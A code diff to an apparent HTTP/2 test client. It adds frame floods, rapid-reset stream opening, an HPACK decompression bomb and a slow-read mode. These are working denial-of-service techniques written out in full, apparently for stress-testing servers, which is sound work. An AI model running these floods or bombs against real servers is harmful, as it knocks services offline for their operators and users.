@@ -26,6 +26,12 @@ Steps (stream defaults to the last stream a request opened; "request" opens the 
   settings settings                 settings_flood count           ping count (a flood)
   continuation  stream?, headers?, count, fragment (bytes per frame; 0: empty frames), end_headers?, end_stream?
   frame    type, flags, stream, payload (hex)                       bytes  hex
+  flood    type, flags?, stream?, payload? (hex), count: the same frame `count` times (written in batches of 1000)
+  open_streams  count, path?, method?, end_stream? (default true), rst? (a code: RST_STREAM right after each HEADERS):
+           HEADERS on the next `count` odd streams, one block encoded once without indexing (rapid reset, endless streams)
+  hpack_bomb  value_size? (4000), refs? (16000), streams? (1): a request whose field x-bomb (value_size octets)
+           enters the dynamic table, then `streams` requests whose block references it `refs` times (HEADERS + CONTINUATION)
+  stop_reading / start_reading   leave the server's bytes in the socket (the kernel's buffers fill up) / read them again
   wait     until (response | end | data | reset | goaway | closed | settings | ping_acks), stream?, count?, ms
            (count: bytes of DATA for data, acks for settings and ping_acks)
   sleep    ms                       close
@@ -125,6 +131,8 @@ class Client:
         self.block = None  # (stream, flags, fragments) of a header block waiting for CONTINUATION
         self.writer = None
         self.alpn = None
+        self.reading = asyncio.Event()
+        self.reading.set()
 
     def stream(self, sid):
         if sid not in self.streams:
@@ -159,8 +167,8 @@ class Client:
         out = [(n.encode("latin1"), v.encode("latin1")) for n, v in fields]
         return self.encoder.encode(out + [(b"x-filler-%d" % j, b"f" * 64, True) for j in range(filler)])
 
-    async def send_headers(self, sid, fields, end_stream, end_headers=True):
-        block = self.header_block(fields)
+    async def send_headers(self, sid, fields, end_stream, end_headers=True, block=None):
+        block = self.header_block(fields) if block is None else block
         size = self.peer_max_frame
         first, rest = block[:size], block[size:]
         flags = (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers and not rest else 0)
@@ -207,6 +215,7 @@ class Client:
         buf = b""
         try:
             while True:
+                await self.reading.wait()
                 chunk = await reader.read(1 << 16)
                 if not chunk:
                     break
@@ -407,6 +416,17 @@ class Client:
             await self.continuation(st)
         elif op == "frame":
             await self.write(frame(st["type"], st.get("flags", 0), st.get("stream", 0), bytes.fromhex(st.get("payload", ""))))
+        elif op == "flood":
+            one = frame(st["type"], st.get("flags", 0), st.get("stream", 0), bytes.fromhex(st.get("payload", "")))
+            emit({"event": "sent", "op": op, "frames": await self.flood(one, st["count"])})
+        elif op == "open_streams":
+            await self.open_streams(st)
+        elif op == "hpack_bomb":
+            await self.hpack_bomb(st)
+        elif op == "stop_reading":
+            self.reading.clear()
+        elif op == "start_reading":
+            self.reading.set()
         elif op == "bytes":
             await self.write(bytes.fromhex(st["hex"]))
         elif op == "wait":
@@ -423,6 +443,52 @@ class Client:
             self.writer.close()
         else:
             raise ValueError(f"unknown op: {op}")
+
+    def unindexed_block(self, fields):
+        """A block that leaves the dynamic table as it is (never-indexed literals, or indexed entries): valid for as long as the table does not change."""
+        return self.encoder.encode([(n.encode("latin1"), v.encode("latin1"), True) for n, v in fields])
+
+    async def open_streams(self, st):
+        count = min(int(st["count"]), MAX_FLOOD_FRAMES)
+        block = self.unindexed_block(self.default_request(st))
+        flags = END_HEADERS | (END_STREAM if st.get("end_stream", True) else 0)
+        rst = st.get("rst")
+        sent = 0
+        first = self.next_stream
+        while sent < count and self.write_error is None:
+            out = []
+            for _ in range(min(1000, count - sent)):
+                sid = self.next_stream
+                self.next_stream += 2
+                self.stream(sid)
+                out.append(frame(HEADERS, flags, sid, block))
+                if rst is not None:
+                    out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", rst)))
+                sent += 1
+            await self.write(b"".join(out))
+        self.last_stream = self.next_stream - 2
+        emit({"event": "sent", "op": "open_streams", "streams": sent, "first": first, "last": self.last_stream})
+
+    async def hpack_bomb(self, st):
+        size = int(st.get("value_size", 4000))
+        refs = int(st.get("refs", 16000))
+        sid = self.next_stream
+        self.next_stream += 2
+        self.stream(sid)
+        # x-bomb enters the table (incremental indexing) and evicts what was there: it is entry 62.
+        await self.send_headers(sid, self.default_request(st) + [["x-bomb", "a" * size]], True)
+        bomb = self.unindexed_block(self.default_request(st)) + b"\xbe" * refs
+        sent = 0
+        for _ in range(int(st.get("streams", 1))):
+            if self.write_error is not None:
+                break
+            b = self.next_stream
+            self.next_stream += 2
+            self.stream(b)
+            await self.send_headers(b, None, True, block=bomb)
+            sent += 1
+        self.last_stream = self.next_stream - 2
+        emit({"event": "sent", "op": "hpack_bomb", "streams": sent, "block_bytes": len(bomb), "decoded_bytes": refs * (size + 6 + 32)})
 
     async def continuation(self, st):
         """HEADERS without END_HEADERS, then `count` CONTINUATION frames of `fragment` bytes of one header block."""
